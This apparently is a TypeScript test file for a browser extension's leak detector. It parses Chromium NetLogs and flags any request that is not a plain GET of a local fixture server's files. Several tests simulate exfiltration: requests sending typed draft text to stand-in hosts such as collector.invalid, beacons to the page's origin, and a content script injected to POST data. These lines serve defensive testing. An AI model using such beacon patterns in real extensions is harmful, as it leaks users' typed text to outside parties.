import { rm } from 'node:fs/promises';
import { dirname } from 'node:path';
import { describe } from 'vitest';
import { expect, launchWithExtension, test } from './fixtures';
import { extensionWorker, tabIdOf } from './extension-settings';
import { findForeignTraffic, parseNetLog, trafficAnnotationHash, type FixtureOrigin } from './network-log';
import { PortalPage } from './pages/portal';
import { startFixtureServer } from './server';

/** The part of the extension API used here (`chrome` has no types in the tests). */
declare const chrome: {
  scripting: { executeScript(injection: { target: { tabId: number }; world: 'ISOLATED'; func: () => Promise<void> }): Promise<unknown> };
};

const FIXTURE: FixtureOrigin = {
  origin: 'http://127.0.0.1:4517',
  serves: async (pathAndQuery) => ['/portal/', '/portal/portal.css', '/portal/portal.js'].includes(pathAndQuery),
};
const EXTENSION = 'chrome-extension://abcdefghijklmnopabcdefghijklmnop';

/** Event type numbers as a NetLog's constants give them; real logs number them differently, which the parser reads. */
const EVENT_TYPES = { REQUEST_ALIVE: 7, URL_REQUEST_START_JOB: 11, HOST_RESOLVER_MANAGER_JOB: 13, UDP_CONNECT: 17, UDP_BYTES_SENT: 19 };

type EventName = keyof typeof EVENT_TYPES;
interface SyntheticEvent {
  type: EventName;
  source: number;
  params?: Record<string, unknown>;
}

/** A NetLog in Chromium's layout: constants on the first line, then one event per line. */
function netLogText(events: SyntheticEvent[]): string {
  const lines = events.map(({ type, source, params }) =>
    JSON.stringify({ params, phase: 1, source: { id: source, start_time: '1', type: 1 }, time: '1', type: EVENT_TYPES[type] }),
  );
  return [
    `{"constants":${JSON.stringify({ logEventTypes: EVENT_TYPES, logSourceType: { URL_REQUEST: 1 } })},`,
    '"events": [',
    `${lines.join(',\n')}],`,
    '"polledData": {}',
    '}',
  ].join('\n');
}

let nextSource = 1;
/** The two events NetLog writes for a request: who made it (traffic annotation), and the job with URL and initiator. */
function request(url: string, { method = 'GET', byBrowser = false, annotation = 'blink_resource_loader', body = false } = {}): SyntheticEvent[] {
  const source = nextSource++;
  return [
    { type: 'REQUEST_ALIVE', source, params: { priority: 'MEDIUM', traffic_annotation: trafficAnnotationHash(annotation), url } },
    {
      type: 'URL_REQUEST_START_JOB',
      source,
      params: { initiator: byBrowser ? 'not an origin' : EXTENSION, load_flags: 0, method, url, ...(body && { upload_id: '0' }) },
    },
  ];
}

const problemsIn = (events: SyntheticEvent[]) => findForeignTraffic(parseNetLog(netLogText(events)), FIXTURE);

describe('the NetLog check, on logs made up for it', () => {
  test('passes plain GETs of the fixture server’s files', async () => {
    expect(await problemsIn([...request(`${FIXTURE.origin}/portal/`, { byBrowser: true }), ...request(`${FIXTURE.origin}/portal/portal.css`)])).toEqual([]);
  });

  test.for([
    { what: 'a request from the extension to another host', events: request('https://collector.example/v1?d=sunflower') },
    { what: 'a request from the browser itself to an unknown host', events: request('https://collector.example/', { byBrowser: true, annotation: 'navigation_url_loader' }) },
    { what: 'a beacon to the page’s own origin', events: request(`${FIXTURE.origin}/portal/`, { method: 'POST', body: true }) },
    { what: 'a GET to the page’s origin with text in its query', events: request(`${FIXTURE.origin}/portal/?draft=sunflower`) },
    { what: 'a GET of a path the fixture server does not serve', events: request(`${FIXTURE.origin}/log/sunflower`) },
    { what: 'another port on loopback', events: request('http://127.0.0.1:9/portal/') },
    { what: 'a WebSocket', events: request(`ws://127.0.0.1:4517/portal/`) },
    { what: 'Chromium’s update check made by the extension instead of the browser', events: request('https://update.googleapis.com/service/update2/json', { method: 'POST', annotation: 'update_client' }) },
    { what: 'a browser request to an update host for another feature', events: request('https://update.googleapis.com/leak', { byBrowser: true }) },
    { what: 'a browser feature’s request to a host that is not Chromium’s', events: request('https://collector.example/v1', { byBrowser: true, annotation: 'component_updater_utils' }) },
  ])('fails $what, naming its URL', async ({ events }) => {
    const url = String(events[0]!.params!.url);
    const problems = await problemsIn(events);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toContain(url);
  });

  test('leaves out what Chromium asks for itself, attributed by initiator, traffic annotation and host', async () => {
    const own = [
      ...request('https://update.googleapis.com/service/update2/json?cup2key=1', { method: 'POST', body: true, byBrowser: true, annotation: 'update_client' }),
      ...request('https://accounts.google.com/ListAccounts?gpsia=1', { method: 'POST', body: true, byBrowser: true, annotation: 'gaia_auth_list_accounts' }),
      ...request('https://content-autofill.googleapis.com/v1/pages/ChVDaHJvbWU?alt=proto', { byBrowser: true, annotation: 'autofill_query' }),
      // The dictionary's address redirects to a mirror under the same domain.
      ...request('https://redirector.gvt1.com/edgedl/chrome/dict/en-us-10-2.bdic', { byBrowser: true, annotation: 'spellcheck_hunspell_dictionary' }),
      ...request('https://r1---sn-mirror.gvt1.com/edgedl/chrome/dict/en-us-10-2.bdic', { byBrowser: true, annotation: 'spellcheck_hunspell_dictionary' }),
      // What an open network adds: the answers lead to downloads and list updates by other browser features.
      ...request('https://edgedl.me.gvt1.com/edgedl/release2/chrome_component/model.crx3', { byBrowser: true, annotation: 'component_updater_utils' }),
      ...request('https://safebrowsing.googleapis.com/v4/threatListUpdates:fetch', { method: 'POST', body: true, byBrowser: true, annotation: 'safe_browsing_v4_update' }),
      { type: 'HOST_RESOLVER_MANAGER_JOB', source: 90, params: { host: 'https://update.googleapis.com' } },
    ] satisfies SyntheticEvent[];
    expect(await problemsIn(own)).toEqual([]);
  });

  test('fails a DNS lookup, and UDP datagrams (WebRTC’s STUN), to anywhere not loopback', async () => {
    const problems = await problemsIn([
      { type: 'HOST_RESOLVER_MANAGER_JOB', source: 91, params: { host: 'https://collector.example' } },
      { type: 'HOST_RESOLVER_MANAGER_JOB', source: 92, params: { host: 'http://127.0.0.1:4517' } },
      { type: 'UDP_BYTES_SENT', source: 93, params: { address: '203.0.113.5:3478', byte_count: 20 } },
      { type: 'UDP_CONNECT', source: 94, params: { address: '198.51.100.7:19302' } },
      { type: 'UDP_BYTES_SENT', source: 94, params: { byte_count: 20 } },
      // A DNS query goes to the resolver; what it asks for is the lookup above.
      { type: 'UDP_CONNECT', source: 95, params: { address: '10.255.255.53:53' } },
      { type: 'UDP_BYTES_SENT', source: 95, params: { byte_count: 39 } },
    ]);
    expect(problems).toEqual(['a DNS lookup of collector.example', 'UDP datagrams to 203.0.113.5:3478', 'UDP datagrams to 198.51.100.7:19302']);
  });

  test('reads a log whose last line was cut off by a browser that did not exit cleanly', async () => {
    const text = netLogText([...request('https://collector.example/'), ...request(`${FIXTURE.origin}/portal/`)]);
    // Killed while writing the second request's job: everything before it is still read.
    const cut = text.slice(0, text.lastIndexOf('"url"'));
    const log = parseNetLog(cut);
    expect(log.requests.map((logged) => logged.url)).toEqual(['https://collector.example/']);
    expect(await findForeignTraffic(log, FIXTURE)).toEqual([
      `not the fixture server: GET https://collector.example/ (initiator: ${EXTENSION})`,
    ]);
  });

  test('refuses a log damaged before its end, rather than reading part of it', () => {
    const text = netLogText([...request('https://collector.example/'), ...request(`${FIXTURE.origin}/portal/`)]);
    const lines = text.split('\n');
    lines[2] = lines[2]!.slice(0, 30);
    expect(() => parseNetLog(lines.join('\n'))).toThrow('NetLog line 3 is not an event');
  });
});

test('a real browser run in which the extension’s worker sends text out fails on close, listing each request', async () => {
  const server = await startFixtureServer();
  const browser = await launchWithExtension({ server });
  try {
    const portal = new PortalPage(await browser.context.newPage(), server);
    await portal.open();
    await portal.typeReply('Tamarind lanterns.');
    const worker = await extensionWorker(browser.context);
    // What a leaky extension could do: send the draft elsewhere, or to the page's own server as a beacon.
    await worker.evaluate(async (origin) => {
      await fetch('https://collector.invalid/v1?draft=tamarind').catch(() => undefined);
      await fetch(`${origin}/portal/`, { method: 'POST', body: 'tamarind lanterns' }).catch(() => undefined);
      await fetch(`${origin}/portal/?draft=tamarind`).catch(() => undefined);
    }, server.origin);
    // The same from a content script, in the extension's world of the page, under the page's origin.
    const tabId = await tabIdOf(browser.context, portal.page.url());
    await worker.evaluate(
      (tabId) =>
        chrome.scripting.executeScript({
          target: { tabId },
          world: 'ISOLATED',
          // Awaited, so the request is out before the browser closes.
          func: async () => void (await fetch('/portal/portal.css', { method: 'POST', body: 'tamarind' })),
        }),
      tabId,
    );
  } catch (error) {
    await browser.close().catch(() => undefined);
    throw error;
  } finally {
    await server.close();
  }
  const failure = (await browser.close().then(() => null, (error: Error) => error.message)) ?? '';
  await rm(dirname(/NetLog kept at (\S+)\)/.exec(failure)?.[1] ?? '/nonexistent/netlog.json'), { recursive: true, force: true });
  // The NetLog names who asked by origin; Playwright's view names the worker. Each sees all three.
  const fromWorker = `(initiator: chrome-extension://${browser.extensionId})`;
  const inWorker = `(from service worker chrome-extension://${browser.extensionId}/background.js)`;
  for (const seenBy of [fromWorker, inWorker]) {
    expect(failure).toContain(`not the fixture server: GET https://collector.invalid/v1?draft=tamarind ${seenBy}`);
    expect(failure).toContain(`not a plain GET: POST ${server.origin}/portal/ ${seenBy}`);
    expect(failure).toContain(`not a file the fixture server serves: GET ${server.origin}/portal/?draft=tamarind ${seenBy}`);
  }
  expect(failure).toContain('a DNS lookup of collector.invalid');
  expect(failure).toContain(`not a plain GET: POST ${server.origin}/portal/portal.css (initiator: ${server.origin})`);
  expect(failure).toContain(`not a plain GET: POST ${server.origin}/portal/portal.css (from page ${server.origin}/portal/)`);
  // The page's own loading, a plain GET of the fixture server's files, is not among them.
  expect(failure).not.toContain(`GET ${server.origin}/portal/ (`);
  expect(failure).not.toContain(`GET ${server.origin}/portal/portal.css`);
});
